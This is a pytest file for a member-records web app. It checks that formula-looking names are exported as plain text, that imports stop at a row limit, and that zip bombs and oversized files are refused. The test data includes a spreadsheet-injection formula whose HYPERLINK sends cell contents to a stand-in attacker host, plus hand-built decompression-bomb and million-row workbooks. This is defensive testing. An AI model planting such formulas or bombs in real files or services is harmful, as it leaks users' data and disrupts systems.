"""Issue 11, items 4 and 6: exported text never becomes a formula; imports stream their
rows and stop at the row limit."""

from __future__ import annotations

import io
import zipfile

from openpyxl import load_workbook

from tests.api.test_import import members, upload
from tests.conftest import web_login

FORMULA = '=HYPERLINK("http://evil.example/?"&B3,"Xem hồ sơ")'


def _export(client, world) -> bytes:
    web_login(client, "clerk_a")
    answer = client.get(f"/org/bodies/{world.bodies['A']}/export.xlsx")
    assert answer.status_code == 200
    return answer.data


def test_a_name_typed_as_a_formula_is_exported_as_text(client, world):
    created = client.post(
        f"/api/v1/bodies/{world.bodies['A']}/members",
        headers=world.auth("clerk_a"),
        json={
            "full_name": FORMULA,
            "gender": "female",
            "position": "+1-2",
            "ethnicity": "@SUM(A1)",
        },
    )
    assert created.status_code == 201
    data = _export(client, world)
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml  # no formula at all
    sheet = load_workbook(io.BytesIO(data)).active
    names = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    assert names[FORMULA][0].data_type == "s"
    assert names[FORMULA][1].value == "+1-2" and names[FORMULA][4].value == "@SUM(A1)"


def test_an_imported_formula_text_comes_back_as_the_same_text(client, world):
    csv = f'full_name,gender\n"{FORMULA.replace(chr(34), chr(34) * 2)}",female\n'.encode()
    answer = upload(client, world, csv, "members.csv")
    assert answer.status_code == 200, answer.get_json()
    assert FORMULA in [m["full_name"] for m in members(client, world)]
    exported = load_workbook(io.BytesIO(_export(client, world))).active
    cell = next(row[0] for row in exported.iter_rows(min_row=2) if row[0].value == FORMULA)
    assert cell.data_type == "s"


OOXML = "http://schemas.openxmlformats.org"
REL = f"{OOXML}/officeDocument/2006/relationships"
PKG_REL = f"{OOXML}/package/2006/relationships"
MAIN = f"{OOXML}/spreadsheetml/2006/main"
SHEET_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml"


def _sheet(rows_xml: bytes) -> bytes:
    """A minimal .xlsx whose first sheet holds `rows_xml` as is (valid or not), with no
    <dimension> element, as an attacker would write it."""
    parts = {
        "[Content_Types].xml": (
            f'<Types xmlns="{OOXML}/package/2006/content-types">'
            '<Default Extension="rels" '
            'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/xl/workbook.xml" ContentType="{SHEET_TYPE}.sheet.main+xml"/>'
            '<Override PartName="/xl/worksheets/sheet1.xml" '
            f'ContentType="{SHEET_TYPE}.worksheet+xml"/></Types>'
        ),
        "_rels/.rels": (
            f'<Relationships xmlns="{PKG_REL}"><Relationship Id="rId1" '
            f'Type="{REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
        ),
        "xl/workbook.xml": (
            f'<workbook xmlns="{MAIN}" xmlns:r="{REL}"><sheets>'
            '<sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>'
        ),
        "xl/_rels/workbook.xml.rels": (
            f'<Relationships xmlns="{PKG_REL}"><Relationship Id="rId1" '
            f'Type="{REL}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
        ),
        "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{MAIN}"><sheetData>'.encode() + rows_xml,
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def _row(number: int, name: str, gender: str = "Nam") -> bytes:
    return (
        f'<row r="{number}"><c r="A{number}" t="inlineStr"><is><t>{name}</t></is></c>'
        f'<c r="B{number}" t="inlineStr"><is><t>{gender}</t></is></c></row>'
    ).encode()


def test_reading_stops_as_soon_as_the_row_limit_is_passed(client, world, app):
    """Rows past the limit are never read: here they are not even valid XML."""
    limit = 40
    rows = _row(1, "Họ và tên", "Giới tính") + b"".join(
        _row(n, f"Người {n}")
        for n in range(2, 20_000)  # beyond the XML parser's buffer
    )
    data = _sheet(rows + b"<row r='99999'><c <<< this is no XML")
    app.config["IMPORT_MAX_ROWS"] = limit
    try:
        answer = upload(client, world, data, "members.xlsx")
    finally:
        app.config["IMPORT_MAX_ROWS"] = 5000
    assert answer.status_code == 422
    assert str(limit) in answer.get_json()["error"]["message"]
    assert len(members(client, world)) == 1


def test_a_million_row_sheet_is_refused_at_the_limit(client, world, app):
    row = b'<row><c t="inlineStr"><is><t>A</t></is></c></row>'  # 1,000,000 rows: 0.3 MB
    data = _sheet(_row(1, "Họ và tên", "Giới tính") + row * 1_000_000 + b"</sheetData></worksheet>")
    assert len(data) < 5 * 1024 * 1024
    answer = upload(client, world, data, "members.xlsx")
    assert answer.status_code == 422
    assert "5000" in answer.get_json()["error"]["message"]
    blank = _sheet(
        _row(1, "Họ và tên", "Giới tính") + b"<row/>" * 1_000_000 + b"</sheetData></worksheet>"
    )
    answer = upload(client, world, blank, "members.xlsx")
    assert answer.status_code == 422
    assert len(members(client, world)) == 1


def test_a_zip_bomb_is_refused_before_it_is_unpacked(client, world):
    data = _sheet(_row(1, "Họ và tên", "Giới tính") + b" " * 80 * 1024 * 1024)
    answer = upload(client, world, data, "members.xlsx")
    assert answer.status_code == 422
    assert "64 MB" in answer.get_json()["error"]["message"]


def test_a_csv_over_the_limit_is_refused(client, world, app):
    app.config["IMPORT_MAX_ROWS"] = 10
    try:
        data = ("full_name,gender\n" + "A,male\n" * 11).encode()
        answer = upload(client, world, data, "m.csv")
        ok = upload(client, world, ("full_name,gender\n" + "A,male\n" * 10).encode(), "m.csv")
    finally:
        app.config["IMPORT_MAX_ROWS"] = 5000
    assert answer.status_code == 422 and "10" in answer.get_json()["error"]["message"]
    assert ok.status_code == 200 and ok.get_json()["created"] == 10
